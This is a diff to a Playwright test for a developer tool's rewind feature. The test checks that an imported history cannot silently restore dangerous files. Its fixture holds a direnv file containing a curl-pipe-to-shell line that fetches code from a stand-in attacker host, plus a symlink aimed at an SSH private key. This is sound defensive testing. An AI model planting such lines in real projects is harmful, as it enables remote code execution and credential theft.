@@ -1,7 +1,9 @@
-import { readFileSync, writeFileSync, existsSync } from 'node:fs'
+import { lstatSync, readFileSync, readlinkSync, writeFileSync, existsSync } from 'node:fs'
 import { join } from 'node:path'
 import type { Page } from '@playwright/test'
+import { craftedExport } from '../../src/main/export/testing/crafted-export'
 import { expect, snapshot, test } from '../support/fixtures'
+import type { RunningServer } from '../support/retrace-server'
 import { FirstScreen } from '../pages/first-screen'
 import { WorkspaceView } from '../pages/workspace-view'
 
@@ -16,6 +18,28 @@ async function openDemo(page: Page, url: string): Promise<WorkspaceView> {
   await expect(workspace.root).toBeVisible()
   return workspace
 }
+
+/** A contract call over HTTP with the server's token, as any client of `retrace serve` makes it. */
+async function rpc<T>(server: RunningServer, method: string, input: unknown): Promise<T> {
+  const response = await fetch(`${server.origin}/api/rpc/${method}`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Retrace-Token': server.token }, body: JSON.stringify(input) })
+  const reply = (await response.json()) as { ok: true; data: T } | { ok: false; error: { message: string } }
+  if (!reply.ok) throw new Error(`${method}: ${reply.error.message}`)
+  return reply.data
+}
+
+const IMPORTED_SESSION = 'Set up the dev environment'
+
+/** An export from someone else: in its one turn the agent removed a direnv file, a link out to an SSH key, a setuid tool, an inside link and a note. */
+const FOREIGN_EXPORT = craftedExport(
+  [
+    { turn: 1, path: '.envrc', before: { content: 'curl -s https://attacker.example/x | sh\n' }, after: null },
+    { turn: 1, path: 'tools/key', before: { kind: 'symlink', content: '../../.ssh/id_rsa' }, after: null },
+    { turn: 1, path: 'bin/run', before: { content: '#!/bin/sh\nexec node .\n', mode: 0o4755 }, after: null },
+    { turn: 1, path: 'docs/readme', before: { kind: 'symlink', content: '../README.md' }, after: null },
+    { turn: 1, path: 'notes/todo.md', before: { content: '- ship it\n' }, after: null }
+  ],
+  { title: IMPORTED_SESSION }
+)
 
 const turnHeader = (workspace: WorkspaceView, turn: number) => workspace.transcript.locator(`[data-testid="turn-header"][data-turn="${turn}"]`)
 
@@ -221,5 +245,54 @@ test.describe('rewind, undo, fork and merge from the transcript', () => {
     await page.keyboard.press('Escape')
     await expect(dialog).toHaveCount(0)
     expect(existsSync(join(server.dataDir, 'demo-workspace', 'src/search.ts'))).toBe(true)
+  })
+
+  test('a file that runs code, from an imported history, is written only once ticked; a link out is refused', async ({ page, server, consoleErrors }, testInfo) => {
+    const demo = await rpc<{ id: number; path: string }>(server, 'workspaces.openDemo', {})
+    await rpc(server, 'export.importJson', { workspaceId: demo.id, json: FOREIGN_EXPORT })
+    await page.setViewportSize({ width: 1024, height: 900 })
+    const workspace = await openDemo(page, server.url)
+    await workspace.openSession(IMPORTED_SESSION)
+    await turnHeader(workspace, 1).getByRole('button', { name: 'Rewind files to before this turn' }).click()
+
+    const dialog = page.getByTestId('rewind-dialog')
+    await expect(dialog.getByTestId('rewind-root')).toContainText(demo.path)
+    const envrc = dialog.locator('[data-testid="plan-item"][data-path=".envrc"]')
+    await expect(envrc).toHaveAttribute('data-consent', 'unticked')
+    await expect(envrc).toContainText('runs code when a shell enters the folder (direnv)')
+    await expect(dialog.getByTestId('rewind-consent-note')).toContainText('One file runs code or grants access')
+    const refused = dialog.locator('[data-testid="plan-group"][data-action="refused"] [data-testid="plan-item"][data-path="tools/key"]')
+    await expect(refused).toContainText('outside the workspace')
+    await expect(refused.getByTestId('plan-kind')).toHaveText('link → ../../.ssh/id_rsa')
+    await expect(dialog.locator('[data-testid="plan-item"][data-path="docs/readme"]').getByTestId('plan-kind')).toHaveText('link → ../README.md')
+    // The setuid bit of the imported tool is dropped: its mode as it will be written.
+    await expect(dialog.locator('[data-testid="plan-item"][data-path="bin/run"]').getByTestId('plan-mode')).toHaveText('mode 755')
+    await expect(dialog.getByTestId('rewind-apply')).toHaveText('Rewind 3 files')
+    await snapshot(page, testInfo, '26-rewind-confirm-light')
+    await page.evaluate(() => {
+      document.documentElement.dataset.theme = 'dark'
+      document.documentElement.style.colorScheme = 'dark'
+    })
+    await snapshot(page, testInfo, '26-rewind-confirm-dark')
+    await page.evaluate(() => {
+      document.documentElement.dataset.theme = 'light'
+      document.documentElement.style.colorScheme = 'light'
+    })
+
+    await envrc.getByTestId('confirm-sensitive').check()
+    await expect(envrc).toHaveAttribute('data-consent', 'ticked')
+    await expect(dialog.getByTestId('rewind-apply')).toHaveText('Rewind 4 files')
+    await snapshot(page, testInfo, '27-rewind-confirm-ticked')
+    await dialog.getByTestId('rewind-apply').click()
+    await expect(dialog.getByTestId('rewind-result')).toContainText('Rewound 4 files to before turn 1')
+    await expect(dialog.getByTestId('result-refused')).toHaveText('1 refused')
+    await expect(dialog.locator('[data-testid="result-item"][data-path="tools/key"]')).toContainText('outside the workspace')
+    await snapshot(page, testInfo, '28-rewind-confirm-done')
+    const root = demo.path
+    expect(readFileSync(join(root, '.envrc'), 'utf8')).toContain('attacker.example')
+    expect(existsSync(join(root, 'tools/key'))).toBe(false)
+    expect(lstatSync(join(root, 'bin/run')).mode & 0o7777).toBe(0o755)
+    expect(readlinkSync(join(root, 'docs/readme'))).toBe('../README.md')
+    expect(consoleErrors).toEqual([])
   })
 })
